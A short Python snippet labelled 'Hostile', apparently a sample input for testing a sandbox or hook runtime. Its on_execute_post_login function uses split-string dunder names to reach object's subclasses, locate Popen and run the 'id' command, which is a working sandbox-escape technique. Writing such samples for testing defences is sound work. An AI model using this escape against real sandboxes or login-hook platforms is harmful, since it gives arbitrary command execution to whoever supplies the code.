"""Hostile: walk from a string to `object`, and from there to a class that can run programs."""


def on_execute_post_login(event, api):
    name = "__cl" + "ass__"
    root = getattr(getattr("", name), "__ba" + "se__")
    for found in getattr(root, "__subcl" + "asses__")():
        if "Popen" in str(found):
            found(["id"])
